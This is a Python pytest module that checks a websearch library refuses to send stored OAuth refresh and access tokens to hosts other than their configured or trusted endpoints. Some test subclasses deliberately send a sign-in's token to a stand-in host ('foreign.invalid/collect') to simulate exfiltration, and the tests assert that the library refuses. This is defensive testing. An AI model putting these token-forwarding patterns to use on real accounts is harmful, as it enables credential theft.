"""Sign-ins judged where they are sent: refresh tokens, and what a trusted gateway trusts.

Stop 40 had the transport judge every request that carries a sign-in's access token by the
URL it is sent to. What it left, carried to stop 42:

* a refresh token was not judged at all: a Gemini sign-in's refresh token (which renews the
  account for as long as it lives) went wherever a request carrying it was sent, a token
  endpoint of a ``GoogleOAuthClient`` pointing elsewhere or a subclass's own request;
* an id in ``sign_in_gateways`` trusted any URL its sender's requests went to, not the URL
  the user set under that id: with ``codex`` trusted and no ``base_urls.codex`` set, a
  subclass sending the ChatGPT sign-in to a host of its own choosing was let through;
* the setting took any base URL id, ``brave`` too, under which no sign-in is sent: trusting
  it could only let another service's sign-in through Brave's gateway.

The simulator plays an HTTP proxy for every non-loopback host, so a request that goes out
arrives there and is recorded.
"""

from collections.abc import AsyncIterator, Collection, Mapping
from contextlib import asynccontextmanager
from pathlib import Path
from typing import ClassVar

import pytest

from tests.proxied_sign_ins import proxied_context, seen_by_proxy, stored_sign_in
from websearch_core import Credentials, SearchParams
from websearch_core.credentials import CredentialStore
from websearch_core.errors import ConfigurationError, ProviderNotConfiguredError
from websearch_core.models import SearchResponse
from websearch_core.provider_credentials import Credential
from websearch_core.provider_ids import GOOGLE_OAUTH_ROUTE, SIGN_IN_ROUTES
from websearch_core.provider_types import Flow
from websearch_core.providers import PROVIDER_REGISTRY, get_provider
from websearch_core.providers._gemini_signins import GEMINI_CLI_OAUTH
from websearch_core.providers._google_token import token_refresher
from websearch_core.providers.base import ProviderContext, ProviderInfo, SearchProvider
from websearch_core.providers.codex import CodexProvider
from websearch_core.providers.gemini import GeminiProvider
from websearch_core.settings import Settings
from websearch_core.settings_errors import configuration_errors
from websearch_core.testing import Simulator
from websearch_core.transport import HttpRequest

ACCESS = "ya29.a0send-time-access-token-0123456789"
REFRESH = "1.send-time-refresh-token-0123456789"
"""Written as it is sent in a form (no character of it escaped), so that it is seen."""
FOREIGN = "http://foreign.invalid"
PLAIN_TOKEN_HOST = "http://oauth2.googleapis.com"
"""Google's token endpoint over plain http: a refresh token goes there only over https."""


@pytest.fixture
def store(tmp_path: Path) -> Path:
    path = stored_sign_in(tmp_path / "credentials.json", "codex", ACCESS)
    return stored_sign_in(path, "gemini-cli", ACCESS, refresh_token=REFRESH)


@asynccontextmanager
async def _context(
    sim: Simulator,
    store: Path,
    *,
    routes: Mapping[str, str] | None = None,
    gateways: Collection[str] = (),
    environ: Mapping[str, str] | None = None,
) -> AsyncIterator[ProviderContext]:
    """A context sending through the simulator as its proxy, with the stored sign-ins."""
    resolved = sim.settings(base_urls={}, credentials_file=store, cache=False)
    credentials = Credentials(store=CredentialStore(store), environ=environ or {})
    async with proxied_context(
        sim, resolved, credentials, routes=routes, gateways=gateways
    ) as context:
        yield context


# Refresh tokens.


class RefreshElsewhere(GeminiProvider):
    """The built-in Gemini provider with its sign-in's refresh token sent, from ``prepare``,
    to the URL the test sets (a form, as a token endpoint is sent one)."""

    to: ClassVar[str] = FOREIGN

    async def prepare(self, flow: Flow) -> None:
        await super().prepare(flow)
        assert flow.token is not None and flow.token.refresh_token is not None
        form = (("grant_type", "refresh_token"), ("refresh_token", flow.token.refresh_token))
        request = HttpRequest(method="POST", url=f"{self.to}/token", form=form)
        await flow.context.transport.send(self.info.id, self.info.label, request)


@pytest.mark.parametrize("to", [FOREIGN, PLAIN_TOKEN_HOST], ids=["foreign", "plain-http"])
async def test_a_refresh_token_is_not_sent_off_its_token_endpoint(store: Path, to: str) -> None:
    provider = type("Made", (RefreshElsewhere,), {"to": to})()
    async with Simulator(["codex"]) as sim, _context(sim, store) as context:
        with pytest.raises(ProviderNotConfiguredError) as refused:
            await provider.search(SearchParams(query="q"), context)
        assert sim["codex"].requests == []
    text = str(refused.value)
    assert refused.value.provider == "gemini"
    assert text.startswith(
        f'Refusing to send the refresh token of the sign-in stored under "gemini-cli" to {to}: '
    )
    assert "renews that sign-in at oauth2.googleapis.com (its refresh_hosts)" in text
    assert "base_urls.gemini" in text and "sign_in_gateways" in text
    assert REFRESH not in text and ACCESS not in text


async def test_a_token_endpoint_pointing_elsewhere_is_never_sent_the_refresh_token(
    store: Path,
) -> None:
    # A client of the user's own whose token endpoint is not Google's, used as Gemini's
    # refresh hook; sent under google_oauth, which the user has set no URL for.
    client = type(GEMINI_CLI_OAUTH)(
        label="Mine",
        client_id="id",
        client_secret="secret",
        sign_in_again="sign in",
        token_url=f"{FOREIGN}/token",
    )
    async with Simulator(["codex"]) as sim:
        async with _context(sim, store, gateways=[GOOGLE_OAUTH_ROUTE]) as context:
            token = await context.credentials.valid_oauth_token("gemini", entry="gemini-cli")
            refresh = token_refresher(client, context.transport, GeminiProvider.info)
            with pytest.raises(ProviderNotConfiguredError) as refused:
                await refresh("gemini-cli", token)
        assert REFRESH not in seen_by_proxy(sim)
        assert sim["codex"].requests == []
    assert "base_urls.google_oauth" in str(refused.value)
    assert REFRESH not in str(refused.value)


async def test_a_refresh_token_still_goes_through_a_trusted_token_gateway(store: Path) -> None:
    # Guard (passes before and after): the URL set under google_oauth, trusted, receives it.
    routes = {GOOGLE_OAUTH_ROUTE: FOREIGN}
    async with Simulator(["codex"]) as sim:
        async with _context(sim, store, routes=routes, gateways=[GOOGLE_OAUTH_ROUTE]) as context:
            token = await context.credentials.valid_oauth_token("gemini", entry="gemini-cli")
            refresh = token_refresher(GEMINI_CLI_OAUTH, context.transport, GeminiProvider.info)
            with pytest.raises(Exception) as answered:  # the simulator knows no /token here
                await refresh("gemini-cli", token)
        assert not isinstance(answered.value, ProviderNotConfiguredError)
        assert REFRESH in seen_by_proxy(sim)


# What trusting an id in sign_in_gateways trusts.


class Plugin(SearchProvider):
    """A user's provider that reads Codex's sign-in by its entry and sends it through the
    transport itself, to the URL the test sets, or to the one its own variable names (held
    to Codex's hosts, as it declares none of its own)."""

    info: ClassVar[ProviderInfo] = ProviderInfo(
        id="send-time-plugin",
        label="Send Time Plugin",
        kind="api",
        description="a user's own provider",
        docs_url="https://plugin.example/docs",
    )
    credential_kinds: ClassVar[tuple[Credential, ...]] = ()
    url_variables: ClassVar[tuple[str, ...]] = ("SEND_TIME_PLUGIN_URL",)
    url: ClassVar[str] = FOREIGN

    async def search(self, params: SearchParams, context: ProviderContext) -> SearchResponse:
        token = context.credentials.oauth_token("codex")
        assert token is not None
        base = context.credentials.env("SEND_TIME_PLUGIN_URL") or self.url
        request = HttpRequest(
            method="GET",
            url=f"{base}/search",
            headers={"Authorization": f"Bearer {token.access_token}"},
        )
        await context.transport.send(self.info.id, self.info.label, request)
        return SearchResponse(provider=self.info.id, answer="sent")


class SendsInPrepare(CodexProvider):
    """A subclass of the built-in Codex provider that sends its token to a host of its own
    choosing from ``prepare``."""

    async def prepare(self, flow: Flow) -> None:
        await super().prepare(flow)
        assert flow.token is not None
        request = HttpRequest(
            method="GET", url=f"{FOREIGN}/collect", headers={"X-Session": flow.token.access_token}
        )
        await flow.context.transport.send(self.info.id, self.info.label, request)


async def test_a_trusted_id_with_no_url_set_trusts_no_url_of_its_senders(store: Path) -> None:
    async with Simulator(["codex"]) as sim:
        async with _context(sim, store, gateways=["send-time-plugin"]) as context:
            with pytest.raises(ProviderNotConfiguredError) as refused:
                await Plugin().search(SearchParams(query="q"), context)
        async with _context(sim, store, gateways=["codex"]) as context:
            with pytest.raises(ProviderNotConfiguredError):
                await SendsInPrepare().search(SearchParams(query="q"), context)
        assert sim["codex"].requests == []
    text = str(refused.value)
    assert text.startswith(f'Refusing to send the OAuth token stored under "codex" to {FOREIGN}')
    # The plugin declares no sign-in: its id cannot be trusted with Codex's, Codex's can.
    assert 'send it under route="codex" and set base_urls.codex to that endpoint' in text
    assert "base_urls.send-time-plugin" not in text
    assert ACCESS not in text


async def test_a_trusted_id_trusts_the_url_set_under_it(store: Path) -> None:
    # Guard (passes before and after): its base URL, or the URL its own variable names.
    async with Simulator(["codex"]) as sim:
        routes = {"send-time-plugin": FOREIGN}
        async with _context(sim, store, routes=routes, gateways=["send-time-plugin"]) as context:
            response = await Plugin().search(SearchParams(query="q"), context)
        assert response.answer == "sent"
        environ = {"SEND_TIME_PLUGIN_URL": "http://own.invalid"}
        plugin = type("Elsewhere", (Plugin,), {"url": "http://unused.invalid"})()
        async with _context(sim, store, gateways=["send-time-plugin"], environ=environ) as context:
            response = await plugin.search(SearchParams(query="q"), context)
        assert response.answer == "sent"
        assert [r.header("Authorization") for r in sim["codex"].requests] == [
            f"Bearer {ACCESS}"
        ] * 2


# What sign_in_gateways may name.


@pytest.mark.parametrize("given", ["brave", "codex, tavily"])
def test_a_gateway_no_sign_in_is_sent_through_is_a_settings_error(
    monkeypatch: pytest.MonkeyPatch, given: str
) -> None:
    monkeypatch.setenv("WEBSEARCH_SIGN_IN_GATEWAYS", given)
    with pytest.raises(ConfigurationError) as caught, configuration_errors():
        Settings()
    text = str(caught.value)
    named = given.split(", ")[-1]
    assert text.startswith(f"WEBSEARCH_SIGN_IN_GATEWAYS: {named} sends no sign-in: ")
    assert "(anthropic, codex, gemini, perplexity, google_oauth)" in text
    assert text.endswith(f"or remove {named}")


def test_every_id_a_sign_in_is_sent_under_may_be_trusted() -> None:
    # Guard (passes before and after): the ids the providers send a sign-in under, and
    # Google's token endpoint, are each accepted.
    sent_under = {
        provider_id
        for provider_id in PROVIDER_REGISTRY
        if any(getattr(k, "sign_in", False) for k in get_provider(provider_id).credential_kinds)
    }
    assert sent_under | {GOOGLE_OAUTH_ROUTE} == set(SIGN_IN_ROUTES)
    assert Settings(sign_in_gateways=SIGN_IN_ROUTES).sign_in_gateways == SIGN_IN_ROUTES
